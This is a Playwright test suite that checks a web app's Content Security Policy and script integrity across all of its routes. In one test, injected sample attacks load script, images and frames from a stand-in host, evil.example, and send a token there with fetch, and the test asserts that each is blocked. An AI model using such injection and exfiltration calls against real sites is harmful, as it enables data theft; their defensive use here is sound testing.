import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { expect, test as base, type Customer } from '#tests/support/journey.ts'

/** What browsers refused, in every page and frame of a journey. */
const test = base.extend<{ refused: string[] }>({
  refused: async ({ page }, use) => {
    const refused: string[] = []
    await page.context().exposeBinding('tellRefused', (_source, words: string) => {
      refused.push(words)
    })
    await page.context().addInitScript(() => {
      const tell = (words: string): void => {
        const told: unknown = Reflect.get(window, 'tellRefused')
        if (typeof told === 'function') told(words)
      }
      addEventListener('securitypolicyviolation', event => {
        tell(`${event.effectiveDirective} ${event.blockedURI}`)
      })
    })
    await use(refused)
  },
})

const PATHS = [
  ...readFileSync('src/routes/route-table.ts', 'utf8').matchAll(/^ {4}path: '(.+)',$/gmu),
].map(([, path = '']) => path)

/** A hole of a path stands for any segment; what no screen links to is asked for all the same. */
const addressFor = (path: string, links: ReadonlySet<string>): string => {
  const pattern = new RegExp(`^${path.replaceAll(/\$\w+/gu, '[^/?]+')}$`, 'u')
  return [...links].find(link => pattern.test(link)) ?? path.replaceAll(/\$\w+/gu, 'none')
}

const linksOf = (page: Page): Promise<string[]> =>
  page
    .locator('a[href]')
    .evaluateAll(links =>
      links.flatMap(link =>
        link instanceof HTMLAnchorElement && link.origin === location.origin ? [link.pathname] : [],
      ),
    )

const openAll = async (customer: Customer, paths: readonly string[]): Promise<void> => {
  const { page } = customer
  const links = new Set<string>()
  const rank = (path: string): number => (path === '/logout' ? 2 : path.includes('$') ? 1 : 0)
  for (const path of paths.toSorted((one, other) => rank(one) - rank(other))) {
    await test.step(path, async () => {
      await customer.open(addressFor(path, links))
      await page.locator('h1').first().waitFor()
      await page.waitForLoadState('networkidle')
      for (const link of await linksOf(page)) links.add(link)
    })
  }
}

/** Screens of business customers, and two that show more to them. */
const OF_BUSINESS = /b2b|invoices|integration|payment|^\/$|^\/orders$/u

for (const { name, paths } of [
  { name: 'Anna de Vries', paths: PATHS },
  { name: 'Bruno Keller', paths: PATHS.filter(path => OF_BUSINESS.test(path)) },
]) {
  test(`no screen asks for anything that its policy refuses, for ${name}`, async ({
    customer,
    refused,
  }) => {
    test.setTimeout(180_000)
    expect(PATHS.length).toBeGreaterThan(20)
    await customer.page.emulateMedia({ colorScheme: 'light' })
    await customer.signIn(name)
    await openAll(customer, paths)

    expect(refused).toEqual([])
    // What is asked for without its token, or with none that holds, is logged.
    customer.complaints.splice(0)
  })
}

test.describe('with dialogs, notices and the survey', () => {
  test.use({ asksConsent: true })

  test('nothing that opens over a screen is refused', async ({ customer, refused }) => {
    const { page } = customer
    await page.emulateMedia({ colorScheme: 'light' })
    await customer.signIn('Anna de Vries')
    await page.getByRole('button', { name: 'Accept all' }).click()
    await page.waitForLoadState('networkidle')
    await page.keyboard.press('?')
    await expect(page.getByRole('dialog')).toBeVisible()
    await page.keyboard.press('Escape')
    await customer.open('/my-photos/photos')
    await page.getByRole('button', { name: 'Add photos' }).click()
    await expect(page.getByRole('dialog')).toBeVisible()

    expect(refused).toEqual([])
  })
})

test('what somebody would put into a page is refused', async ({ customer, refused }) => {
  const { page } = customer
  await customer.signIn('Anna de Vries')
  const isRefused = await page.evaluate(async () => {
    const attempts: (() => unknown)[] = [
      () => {
        document.body.innerHTML = '<b>written</b>'
      },
      () => {
        document.createElement('script').src = 'https://evil.example/a.js'
      },
    ]
    const thrown = attempts.map(attempt => {
      try {
        attempt()
        return 'done'
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown'
      }
    })
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    const picture = document.createElement('img')
    picture.src = 'https://evil.example/a.png'
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(style, picture, frame)
    const called = await fetch('https://evil.example/?token=1').then(
      () => 'done',
      (error: unknown) => (error instanceof Error ? error.name : 'thrown'),
    )
    // A page that is asked from outside may do so; what it does later may not.
    const evaluated = await new Promise(resolve => {
      setTimeout(() => {
        try {
          Reflect.get(window, 'eval')('1')
          resolve('done')
        } catch (error) {
          resolve(error instanceof Error ? error.name : 'thrown')
        }
      })
    })
    return [...thrown, called, evaluated]
  })

  expect(isRefused).toEqual(['TypeError', 'TypeError', 'TypeError', 'EvalError'])
  await expect
    .poll(() => new Set(refused.map(words => words.split(' ')[0])))
    .toEqual(
      new Set([
        'connect-src',
        'frame-src',
        'img-src',
        'require-trusted-types-for',
        'style-src-elem',
      ]),
    )
  customer.complaints.splice(0)
})

for (const { how, script } of [
  { how: 'loads on demand', script: /\/assets\/OrdersRoute-[\w-]+\.js$/u },
  { how: 'imports statically', script: /\/assets\/Pager-[\w-]+\.js$/u },
]) {
  test(`a script that the page ${how} does not run when it was changed in transit`, async ({
    customer,
  }) => {
    const { page } = customer
    await customer.signIn('Anna de Vries')
    let changed = 0
    await page.route(script, async route => {
      const original = readFileSync(`dist${new URL(route.request().url()).pathname}`, 'utf8')
      changed += 1
      await route.fulfill({
        contentType: 'text/javascript',
        body: `window.tampered = true;${original}`,
      })
    })
    await page.getByRole('navigation', { name: 'Account' }).getByText('Orders').click()

    await expect(page.getByRole('alert')).toContainText('An unexpected error has occurred')
    expect(changed).toBeGreaterThan(0)
    expect(await page.evaluate(() => Reflect.get(window, 'tampered'))).toBeUndefined()
    customer.complaints.splice(0)
  })
}
